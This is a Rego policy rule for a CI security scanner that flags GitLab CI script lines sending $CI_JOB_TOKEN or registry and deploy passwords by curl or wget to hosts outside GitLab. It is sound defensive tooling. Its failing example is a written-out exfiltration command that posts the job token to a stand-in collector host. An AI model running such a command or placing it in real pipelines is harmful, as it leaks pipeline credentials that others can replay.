# METADATA
# title: CI job token sent to a host outside the GitLab instance
# description: A script line uses curl or wget with $CI_JOB_TOKEN, $CI_REGISTRY_PASSWORD or $CI_DEPLOY_PASSWORD and a URL that is not the GitLab API, server or registry variables.
# custom:
#   id: gitlab-job-token-exfiltration
#   severity: high
#   kinds: [gitlab_ci]
#   cwe: [522, 201]
#   owasp: ["A01:2021", "A07:2021"]
#   owasp_llm: []
#   ssdf: ["PS.1.1"]
#   rationale: Job tokens act as the pipeline's identity against the GitLab API, registry and package registries; sent elsewhere they can be replayed while the job runs and indicate exfiltration.
#   remediation: Send job tokens only to $CI_API_V4_URL, $CI_SERVER_URL or $CI_REGISTRY; use a dedicated, scoped credential for third-party services.
#   references: ["https://docs.gitlab.com/ci/jobs/ci_job_token/"]
#   aliases:
#     checkov: [CKV_GITLABCI_1]
#   examples:
#     fail:
#       - |
#         leak:
#           script:
#             - 'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://collector.example.net/upload'
#     pass:
#       - |
#         publish:
#           script:
#             - 'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" --upload-file pkg.tgz "${CI_API_V4_URL}/projects/${CI_PROJECT_ID}/packages/generic/pkg/1.0/pkg.tgz"'
package rampart.gitlab.job_token_exfiltration

import data.rampart.lib.ci_gitlab as gl
import rego.v1

token := `[$][{]?(CI_JOB_TOKEN|CI_REGISTRY_PASSWORD|CI_DEPLOY_PASSWORD)`

gitlab_url := `[$][{]?(CI_API_V4_URL|CI_API_GRAPHQL_URL|CI_SERVER_URL|CI_SERVER_HOST|CI_SERVER_FQDN|CI_REGISTRY|CI_PROJECT_URL|CI_REPOSITORY_URL|CI_DEPENDENCY_PROXY_SERVER)`

deny contains result if {
	some x in gl.lines
	regex.match(`(^|[ ;&|(])(curl|wget) `, x.line)
	regex.match(token, x.line)
	not regex.match(gitlab_url, x.line)
	result := {"msg": sprintf("%s sends a CI token with %s to a non-GitLab URL", [x.job.address, x.line]), "resource": x.job.address, "attribute": x.attribute}
}
